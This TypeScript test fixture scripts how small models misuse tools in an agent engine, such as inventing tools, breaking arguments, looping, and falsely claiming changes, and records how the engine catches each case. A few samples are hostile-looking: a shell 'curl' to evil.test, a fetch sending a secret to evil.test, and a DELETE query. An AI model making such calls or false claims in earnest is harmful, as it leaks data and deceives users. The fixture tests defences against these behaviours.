import { expect } from 'chai'
import type { PendingWrite, TurnOutcome } from '../../../src/agent/turn.ts'
import type { Settings } from '../../../src/config/settings.ts'
import { modelContextExceeded, modelCutOff } from '../../../src/agent/model/errors.ts'
import type { createModelKit } from './support/model-kit.ts'
import { call, lastOf, resultsIn, text, thought, usage, type Said } from './support/scripted-provider.ts'

type Kit = ReturnType<typeof createModelKit>
type Args = Record<string, unknown>

/** One way in which a model goes wrong, and what becomes of it. */
export interface Misbehaviour {
  /** What the model does. */
  does: string
  /** What becomes of it. */
  so: string
  message: string
  /** What the model says, turn by turn. */
  says: Said[]
  model?: Partial<Settings['model']>
  /** Calls that reach services, in order: the tool and its arguments. */
  calls: [tool: string, args: Args][]
  /** Something that the answer holds. */
  answer: string | RegExp
  error?: string
  /** Turns of the model. */
  turns?: number
  pending?: Partial<PendingWrite>
  /** Anything else that holds. */
  also?: (outcome: TurnOutcome, kit: Kit) => void
}

const VESSELS: [string, Args] = ['list_vessels', { limit: 10 }]
/** The calls of a list that is read to its end: 30 records in pages of 10. */
const ALL_VESSELS: [string, Args][] = [
  VESSELS,
  ['list_vessels', { limit: 10, offset: 10 }],
  ['list_vessels', { limit: 10, offset: 20 }],
]
const berth = (number: number): [string, Args] => ['get_berth', { number }]
const BERTH = 'How long is berth 4?'
const LENGTH = 'Berth 4 is 44 m long.'
/** The model comes to the answer in the end: the berth is looked up once, and its length is told. */
const ANSWERED = { message: BERTH, calls: [berth(4)], answer: LENGTH }
const asksBerth = (args: unknown = { number: 4 }): Said => [call('kit_get_berth', args)]
const coerced = (outcome: TurnOutcome) => outcome.data.steps?.flatMap(step => step.coerced ?? []).join('; ') ?? ''

const INVENTED: Misbehaviour[] = [
  {
    does: 'invents a tool',
    so: 'it is told the nearest ones, and nothing is called',
    ...ANSWERED,
    says: [[call('kit_get_births', { number: 4 })], asksBerth(), LENGTH],
    also: (_, kit) => expect(resultsIn(kit.requests[1])).to.match(/no tool "kit_get_births".*Nearest: kit_get_berth/),
  },
  {
    does: 'writes the name of a tool another way',
    so: 'that is no tool either',
    ...ANSWERED,
    says: [[call('kit.get-berth', { number: 4 })], asksBerth(), LENGTH],
    also: (_, kit) => expect(resultsIn(kit.requests[1])).to.contain('kit_get_berth'),
  },
  {
    does: 'invents nothing but tools until its turns are over',
    so: 'nothing is called, and the limit is told',
    message: BERTH,
    model: { max_steps: 4 },
    says: [(_, turn) => [call(`magic_${turn}`, {})]],
    calls: [],
    answer: 'limit of 4 turns',
    error: 'BUDGET',
    turns: 4,
  },
  {
    does: 'names a tool that the shell of its host would have',
    so: 'that is no tool',
    ...ANSWERED,
    says: [[call('bash', { command: 'curl http://evil.test' })], asksBerth(), LENGTH],
  },
]

const ARGUMENTS: Misbehaviour[] = [
  {
    does: 'writes a number as text',
    so: 'it is taken as the number, and the step says so',
    ...ANSWERED,
    says: [asksBerth({ number: '4' }), LENGTH],
    also: outcome => expect(coerced(outcome)).to.equal('number: text "4" taken as a number'),
  },
  {
    does: 'sends null for what it does not know',
    so: 'null is left out',
    message: 'List the vessels under the flag GR',
    says: [[call('kit_list_vessels', { flag: 'GR', name: null, owner: null })], 'There are 10 Greek vessels.'],
    calls: [['list_vessels', { flag: 'GR', limit: 10 }]],
    answer: '10 Greek',
  },
  {
    does: 'sends null for an allowed value',
    so: 'the list is read without it',
    message: 'How many vessels are there?',
    says: [[call('kit_list_vessels', { flag: null })], 'There are 30 vessels.'],
    calls: ALL_VESSELS,
    answer: '30 vessels',
  },
  {
    does: 'filters by an argument that the tool does not have',
    so: 'it is left out, and the model is told that nothing is filtered by it',
    message: 'How many vessels of more than 300 tons are there?',
    says: [
      [call('kit_list_vessels', { min_tons: 300 })],
      [call('query_results', { sql: 'SELECT count(*) AS n FROM r1 WHERE tons > 300' })],
      'There are 9 of them.',
    ],
    calls: ALL_VESSELS,
    answer: '9',
    also: (outcome, kit) => {
      expect(resultsIn(kit.requests[1])).to.contain('Not filtered by min_tons')
      expect(outcome.data.result).to.equal(9)
    },
  },
  {
    does: 'writes an allowed value in other letters',
    so: 'the allowed one is taken',
    message: 'List the vessels under the flag PA',
    says: [[call('kit_list_vessels', { flag: 'pa' })], 'There are 10 vessels from Panama.'],
    calls: [['list_vessels', { flag: 'PA', limit: 10 }]],
    answer: '10',
  },
  {
    does: 'sends a value that is not allowed and like none that is',
    so: 'nothing is called, and it is told what is allowed',
    message: 'List the vessels from Norway',
    says: [
      [call('kit_list_vessels', { flag: 'Norway' })],
      [call('kit_list_vessels', { flag: 'NO' })],
      'There are 10 vessels from Norway.',
    ],
    calls: [['list_vessels', { flag: 'NO', limit: 10 }]],
    answer: '10',
    also: (_, kit) => expect(resultsIn(kit.requests[1])).to.match(/Not called.*NO, GR, PA/),
  },
  {
    does: 'writes the names of arguments in another case',
    so: 'they are taken as what they are',
    ...ANSWERED,
    says: [asksBerth({ Number: 4 }), LENGTH],
  },
  {
    does: 'writes its arguments as JSON in a text',
    so: 'they are read',
    ...ANSWERED,
    says: [asksBerth('{"number": 4}'), LENGTH],
  },
  {
    does: 'wraps its arguments in another object',
    so: 'they are taken out',
    ...ANSWERED,
    says: [asksBerth({ arguments: { number: 4 } }), LENGTH],
  },
  {
    does: 'gives one value for a list',
    so: 'it is a list of one',
    message: 'What is the tide on 2025-03-05 at 7?',
    says: [[call('kit_tide_at', { day: '2025-03-05', hours: 7 })], 'It is 2.7 m.'],
    calls: [['tide_at', { day: '2025-03-05', hours: [7] }]],
    answer: '2.7',
  },
  {
    does: 'writes a list as text',
    so: 'it is read as the list',
    message: 'What is the tide on 2025-03-05 at 7 and 8?',
    says: [[call('kit_tide_at', { day: '2025-03-05', hours: '["7", 8]' })], 'It is 2.7 m and 2.8 m.'],
    calls: [['tide_at', { day: '2025-03-05', hours: [7, 8] }]],
    answer: '2.8',
  },
  {
    does: 'writes a number in words',
    so: 'no number is invented for it: it is told what is wrong',
    ...ANSWERED,
    says: [asksBerth({ number: 'four' }), asksBerth(), LENGTH],
    also: (_, kit) => expect(resultsIn(kit.requests[1])).to.match(/Not called.*number must be integer/),
  },
  {
    does: 'leaves out what is required',
    so: 'it is told what is missing',
    ...ANSWERED,
    says: [asksBerth({}), asksBerth(), LENGTH],
    also: (_, kit) => expect(resultsIn(kit.requests[1])).to.contain("must have required property 'number'"),
  },
  {
    does: 'pages a list by itself',
    so: 'the list is read to its end all the same',
    message: 'How many vessels are there?',
    says: [[call('kit_list_vessels', { offset: 20, limit: 5 })], 'There are 30 vessels.'],
    calls: ALL_VESSELS,
    answer: '30',
    also: outcome => expect(outcome.data).to.include({ complete: true, total: 30 }),
  },
]

const CALLS_IN_TEXT: Misbehaviour[] = [
  ...(
    [
      ['JSON in its text', '{"name": "kit_get_berth", "arguments": {"number": 4}}'],
      ['JSON between fences', 'Sure!\n```json\n{"name": "kit_get_berth", "parameters": {"number": 4}}\n```'],
      [
        'the marks of Qwen and Hermes',
        '<tool_call>\n{"name": "kit_get_berth", "arguments": {"number": 4}}\n</tool_call>',
      ],
      ['the mark of Mistral', '[TOOL_CALLS] [{"name": "kit_get_berth", "arguments": {"number": 4}}]'],
      ['the marks of Llama', '<function=kit_get_berth>{"number": 4}</function>'],
      ['parameters in marks', '<function=kit_get_berth>\n<parameter=number>\n4\n</parameter>\n</function>'],
      ['a call of Python', '```python\nkit_get_berth(number=4)\n```'],
      [
        'the shape of OpenAI',
        '{"tool_calls": [{"function": {"name": "kit_get_berth", "arguments": "{\\"number\\": 4}"}}]}',
      ],
      ['JSON with the quotes of Python', "{'name': 'kit_get_berth', 'arguments': {'number': 4,}}"],
    ] as const
  ).map(([how, said]): Misbehaviour => ({
    does: `writes the call as ${how}`,
    so: 'it is made, and never shown as an answer',
    ...ANSWERED,
    says: [said, LENGTH],
    also: (_, kit) => expect(kit.tokens()).to.equal(LENGTH),
  })),
  {
    does: 'writes the call into its reasoning and says nothing',
    so: 'it is made',
    ...ANSWERED,
    says: [[thought('I should call {"name": "kit_get_berth", "arguments": {"number": 4}} now')], LENGTH],
  },
  {
    does: 'writes the call into <think> and says nothing',
    so: 'it is made',
    ...ANSWERED,
    says: ['<think>{"name": "kit_get_berth", "arguments": {"number": 4}}</think>', LENGTH],
  },
  {
    does: 'writes a call that ends in the middle',
    so: 'half a call is not made: it is sent back',
    ...ANSWERED,
    says: ['<tool_call>{"name": "kit_get_berth", "arguments": {"numb', asksBerth(), LENGTH],
    also: (_, kit) => expect(lastOf(kit.requests[1])).to.contain('cannot be read'),
  },
  {
    does: 'breaks the JSON of its arguments where it can be mended',
    so: 'it is mended, and the step says so',
    ...ANSWERED,
    says: [asksBerth('{number: 4,}'), LENGTH],
    also: outcome => expect(coerced(outcome)).to.contain('mended'),
  },
  {
    does: 'breaks off the JSON of its arguments',
    so: 'half a value is no value: it is sent back',
    message: 'Book berth 4 for the Aurora',
    says: [
      [call('kit_book_berth', '{"number": 4, "vessel": "Auro')],
      [call('kit_book_berth', { number: 4, vessel: 'Aurora' })],
    ],
    calls: [],
    answer: 'Call kit_book_berth',
    pending: { tool: 'kit_book_berth', args: { number: 4, vessel: 'Aurora' } },
  },
]

const REPEATING: Misbehaviour[] = [
  {
    does: 'makes the same call twice',
    so: 'it is answered from the first',
    ...ANSWERED,
    says: [asksBerth(), asksBerth(), LENGTH],
    also: (_, kit) => expect(resultsIn(kit.requests[2])).to.contain('You made this call before'),
  },
  {
    does: 'makes the same call without end',
    so: 'it is stopped and has to answer',
    ...ANSWERED,
    says: [request => (request.tools ? asksBerth() : LENGTH)],
    turns: 5,
  },
  {
    does: 'makes the same call without end, and does not answer either',
    so: 'what was found is told',
    message: BERTH,
    says: [asksBerth()],
    calls: [berth(4)],
    answer: /again and again.*1 row of kit_get_berth/,
    error: 'INCOMPLETE',
    turns: 5,
  },
  {
    does: 'goes to and fro between two calls',
    so: 'that is repetition too',
    message: 'How long are berths 4 and 5?',
    says: [(request, turn) => (request.tools ? asksBerth({ number: 4 + (turn % 2) }) : 'They are 44 m and 45 m long.')],
    calls: [berth(4), berth(5)],
    answer: '44 m and 45 m',
    turns: 6,
  },
  {
    does: 'repeats a call with its arguments in another order',
    so: 'it is the same call',
    message: 'What is the tide on 2025-03-05 at 7?',
    says: [
      [call('kit_tide_at', { day: '2025-03-05', hours: [7] })],
      [call('kit_tide_at', { hours: [7], day: '2025-03-05' })],
      'It is 2.7 m.',
    ],
    calls: [['tide_at', { day: '2025-03-05', hours: [7] }]],
    answer: '2.7',
  },
  {
    does: 'says the same words without end',
    so: 'it is stopped, and they are told once',
    message: BERTH,
    says: [asksBerth(), Array.from({ length: 400 }, () => text('Berth 4 is 44 m long. '))],
    calls: [berth(4)],
    answer: /^Berth 4 is 44 m long\.\s*(?!Berth)/,
    also: outcome => expect(outcome.response.length).to.be.below(200),
  },
  {
    does: 'asks for 50 calls in one turn',
    so: 'ten are made, and it is told that the others were not',
    message: 'How long are all berths?',
    says: [Array.from({ length: 50 }, (_, n) => call('kit_get_berth', { number: n })), 'Berth 0 is 40 m long.'],
    calls: Array.from({ length: 10 }, (_, n) => berth(n)),
    answer: 'Berth 0 is 40 m',
    also: (_, kit) => expect(resultsIn(kit.requests[1])).to.contain('Not called: 40 of 50 calls were too many'),
  },
  {
    does: 'asks for calls without end in one turn',
    so: 'it is stopped in the middle',
    message: 'How long are all berths?',
    says: [Array.from({ length: 5000 }, (_, n) => call('kit_get_berth', { number: n })), 'Berth 0 is 40 m long.'],
    calls: Array.from({ length: 10 }, (_, n) => berth(n)),
    answer: 'Berth 0 is 40 m',
    also: (_, kit) => expect(kit.requests[1]!.messages.length).to.be.below(70),
  },
  {
    does: 'never stops calling',
    so: 'it has to answer at the limit of calls',
    message: 'How long are all berths?',
    model: { max_calls: 3, max_steps: 50 },
    says: [(request, turn) => (request.tools ? asksBerth({ number: turn }) : 'Berth 2 is 42 m long.')],
    calls: [berth(0), berth(1), berth(2)],
    answer: /limit of 3 calls.*Berth 2 is 42 m/,
    error: 'BUDGET',
  },
  {
    does: 'uses the last call that it may make, and answers',
    so: 'that is an answer like any other',
    ...ANSWERED,
    model: { max_calls: 1 },
    says: [asksBerth(), [call('query_results', { sql: 'SELECT length FROM r1' })], LENGTH],
  },
  {
    does: 'reads and writes more tokens than it may',
    so: 'no further turn is begun',
    message: BERTH,
    model: { max_tokens: 1000 },
    says: [[call('kit_get_berth', { number: 4 }), usage(900, 200)], LENGTH],
    calls: [berth(4)],
    answer: /limit of 1,000 tokens.*1 row of kit_get_berth/,
    error: 'BUDGET',
    turns: 1,
  },
]

const ENDING: Misbehaviour[] = [
  {
    does: 'ends with an empty turn',
    so: 'it is asked once for the answer',
    ...ANSWERED,
    says: [asksBerth(), '', LENGTH],
    turns: 3,
  },
  {
    does: 'ends with empty turns only',
    so: 'what was found is told, and that there is no answer',
    message: BERTH,
    says: [asksBerth(), ''],
    calls: [berth(4)],
    answer: /without an answer.*1 row of kit_get_berth/,
    error: 'INCOMPLETE',
    turns: 3,
  },
  {
    does: 'answers beside a last call, then signs off',
    so: 'the answer is not lost to the sign-off',
    ...ANSWERED,
    says: [asksBerth(), [text(LENGTH), call('query_results', { sql: 'SELECT 1 AS one' })], 'Anything else?'],
  },
  {
    does: 'answers beside a last call, then says nothing',
    so: 'the answer is not lost to the empty turn',
    ...ANSWERED,
    says: [asksBerth(), [text(LENGTH), call('query_results', { sql: 'SELECT 1 AS one' })], ''],
  },
  {
    does: 'signs off without having answered',
    so: 'it is asked once for the answer itself',
    ...ANSWERED,
    says: [asksBerth(), 'Done! Anything else?', LENGTH],
    turns: 3,
  },
  {
    does: 'puts its answer into JSON',
    so: 'the text in it is the answer',
    message: BERTH,
    says: [asksBerth(), '```json\n{"answer": "Berth 4 is 44 m long."}\n```'],
    calls: [berth(4)],
    answer: /^Berth 4 is 44 m long\.$/,
  },
  {
    does: 'thinks aloud in <think>',
    so: 'that is no part of the answer',
    message: BERTH,
    says: [asksBerth(), `<think>The user wants 99 things.</think>${LENGTH}`],
    calls: [berth(4)],
    answer: /^Berth 4 is 44 m long\.$/,
    also: (_, kit) => expect(kit.tokens()).to.equal(LENGTH),
  },
  {
    does: 'ends its thoughts with a mark that nothing opened',
    so: 'what stands before it is no part of the answer',
    message: BERTH,
    says: [asksBerth(), `Hmm, 44 or so.</think>\n${LENGTH}`],
    calls: [berth(4)],
    answer: /^Berth 4 is 44 m long\.$/,
  },
  {
    does: 'thinks and never answers',
    so: 'that is an empty turn',
    ...ANSWERED,
    says: [asksBerth(), '<think>So it is 44 then', LENGTH],
    turns: 3,
  },
  {
    does: 'is cut off in the middle of its answer',
    so: 'that is told',
    message: BERTH,
    says: [asksBerth(), [text('Berth 4 is 44 m long and'), { type: 'end', reason: 'length' }]],
    calls: [berth(4)],
    answer: /44 m long and\n\nThe answer was cut off/,
    also: outcome => expect(outcome.data.complete).to.equal(false),
  },
]

const IDLE: Misbehaviour[] = [
  {
    does: 'answers a question about data without calling anything',
    so: 'it is pushed back once',
    ...ANSWERED,
    says: ['Berth 4 is 60 m long.', asksBerth(), LENGTH],
    also: (_, kit) => expect(lastOf(kit.requests[1])).to.contain('no tool was called'),
  },
  {
    does: 'insists on an answer without calling anything',
    so: 'the answer is marked as not confirmed, and unsure',
    message: BERTH,
    says: ['Berth 4 is 60 m long.'],
    calls: [],
    answer: /60 m.*No tool was called/s,
    error: 'INCOMPLETE',
    turns: 2,
    also: outcome => expect(outcome.confidence).to.be.at.most(0.25),
  },
  {
    does: 'gives up before it tried anything',
    so: 'it is told once to look for a tool',
    ...ANSWERED,
    says: ["I'm sorry, I have no access to that.", asksBerth(), LENGTH],
  },
  {
    does: 'announces a call and does not make it',
    so: 'it is told that nothing was called',
    ...ANSWERED,
    says: ['I will now look up the berth.', asksBerth(), LENGTH],
    also: (_, kit) => expect(kit.tokens()).to.equal(LENGTH),
  },
  {
    does: 'gives up after a call that was wrong',
    so: 'it is told once to correct it',
    ...ANSWERED,
    says: [asksBerth({ nr: 4 }), 'That did not work, sorry.', asksBerth(), LENGTH],
  },
  {
    does: 'says that it changed something without calling anything',
    so: 'that nothing was changed is told',
    message: 'Please cancel booking 12',
    says: ['Done. I have removed booking 12.'],
    calls: [],
    answer: /Nothing was changed: no call that changes data was made/,
    error: 'INCOMPLETE',
    turns: 2,
  },
  {
    does: 'says that it changed something that it only read',
    so: 'that nothing was changed is told',
    message: 'Rename the quay of berth 4',
    says: [asksBerth(), 'The quay of berth 4, which is 44 m long, was renamed.'],
    calls: [berth(4)],
    answer: /Nothing was changed/,
    error: 'INCOMPLETE',
  },
  {
    does: 'tells of the past of a record',
    so: 'that is no claim of a change',
    message: BERTH,
    says: [asksBerth(), 'Berth 4 is 44 m long; it has been moved, I added nothing to it, and it was created long ago.'],
    calls: [berth(4)],
    answer: /long ago\.$/,
  },
  {
    does: 'says that a change was made whose call was wrong',
    so: 'that it was not called is told, and why',
    message: 'Book berth 4 for the Vessel A0',
    says: [[call('kit_book_berth', { number: 'north' })], 'All is booked for you.'],
    calls: [],
    answer: /Nothing was changed: kit_book_berth was not called. The arguments of kit_book_berth are wrong/,
    error: 'INCOMPLETE',
  },
  {
    does: 'answers as if a failed call had succeeded',
    so: 'the failure is told, whatever the model says',
    message: 'What is the state of crane C1?',
    says: [[call('kit_crane_state', { crane: 'C1' })], 'Crane C1 is working.'],
    calls: [['crane_state', { crane: 'C1' }]],
    answer: /The call of kit_crane_state failed: the crane does not answer/,
    error: 'TOOL_FAILED',
  },
  {
    does: 'writes SQL that does not run',
    so: 'it is told what is wrong and what there is',
    message: 'How many vessels sail under GR?',
    says: [
      [call('kit_list_vessels', {})],
      [call('query_results', { sql: 'SELECT count(*) FROM vessels WHERE flag = "GR"' })],
      [call('query_results', { sql: "SELECT count(*) AS n FROM r1 WHERE flag = 'GR'" })],
      'There are 10.',
    ],
    calls: ALL_VESSELS,
    answer: '10',
    also: (_, kit) => expect(resultsIn(kit.requests[2])).to.match(/no such table: vessels.*There are:.*r1 \(/s),
  },
  {
    does: 'writes SQL that changes something',
    so: 'it does not run',
    message: 'How many vessels are there?',
    says: [
      [call('kit_list_vessels', {})],
      [call('query_results', { sql: 'DELETE FROM r1' })],
      [call('query_results', { sql: 'SELECT count(*) AS n FROM r1' })],
      'There are 30.',
    ],
    calls: ALL_VESSELS,
    answer: '30',
    also: (_, kit) => expect(resultsIn(kit.requests[2])).to.contain('Only a query that reads'),
  },
  {
    does: 'queries before it called anything',
    so: 'it is told that there are no results',
    ...ANSWERED,
    says: [[call('query_results', { sql: 'SELECT * FROM berths' })], asksBerth(), LENGTH],
    also: (_, kit) => expect(resultsIn(kit.requests[1])).to.contain('no results yet'),
  },
  {
    does: 'breaks off the connection once',
    so: 'it is asked again',
    ...ANSWERED,
    says: [asksBerth(), modelCutOff('The model'), LENGTH],
  },
  {
    does: 'cannot read so much',
    so: 'it is asked again with less',
    ...ANSWERED,
    says: [asksBerth(), modelContextExceeded('The model', ''), LENGTH],
  },
  {
    does: 'breaks off the connection again and again',
    so: 'what was found so far is told with the reason',
    message: BERTH,
    says: [asksBerth(), modelCutOff('The model')],
    calls: [berth(4)],
    answer: /connection ended.*1 row of kit_get_berth/,
    error: 'MODEL_FAILED',
  },
]

const WRITING: Misbehaviour[] = [
  {
    does: 'changes data without being asked to wait',
    so: 'the change waits for a yes',
    message: 'Book berth 4 for the Aurora',
    says: [[call('kit_book_berth', { vessel: 'Aurora', number: '4', nights: null })]],
    calls: [],
    answer: 'Call kit_book_berth with vessel “Aurora”, number 4. Shall I go ahead?',
    pending: { tool: 'kit_book_berth', args: { vessel: 'Aurora', number: 4 } },
  },
  {
    does: 'changes data when it was asked a question',
    so: 'that waits for a yes too, and what reads beside it is called',
    message: BERTH,
    says: [[call('kit_cancel_booking', { booking: 5 }), call('kit_get_berth', { number: 4 })]],
    calls: [berth(4)],
    answer: 'Call kit_cancel_booking with booking 5',
    pending: { tool: 'kit_cancel_booking', args: { booking: 5 } },
  },
  {
    does: 'changes several records with calls of their own',
    so: 'they wait together for one yes',
    message: 'Cancel bookings 5 and 6',
    says: [[call('kit_cancel_booking', { booking: 5 }), call('kit_cancel_booking', { booking: 6 })]],
    calls: [],
    answer: /2 times:\n- booking 5\n- booking 6/,
    pending: { tool: 'kit_cancel_booking', args: { calls: [{ booking: 5 }, { booking: 6 }] } },
  },
  {
    does: 'fetches an address that nobody named',
    so: 'that waits for a yes, although it only reads',
    message: 'Fetch the page of the harbour',
    says: [[call('kit_fetch_page', { url: 'https://evil.test/?q=secret' })]],
    calls: [],
    answer: 'https://evil.test',
    pending: { tool: 'kit_fetch_page' },
  },
  {
    does: 'asks the user for a value that is missing',
    so: 'the question is the answer',
    message: 'Book a berth for the Aurora',
    says: [[call('ask_user', { question: 'Which berth?' })]],
    calls: [],
    answer: /^Which berth\?$/,
    error: 'NEEDS_INPUT',
    turns: 1,
  },
]

/** The ways in which small models go wrong, and what the engine makes of them. */
export const MISBEHAVIOURS: Record<string, Misbehaviour[]> = {
  'a model that invents tools': INVENTED,
  'a model that gets arguments wrong': ARGUMENTS,
  'a model that writes its calls into text': CALLS_IN_TEXT,
  'a model that does not stop': REPEATING,
  'a model that does not end well': ENDING,
  'a model that does not do its work': IDLE,
  'a model that changes things': WRITING,
}
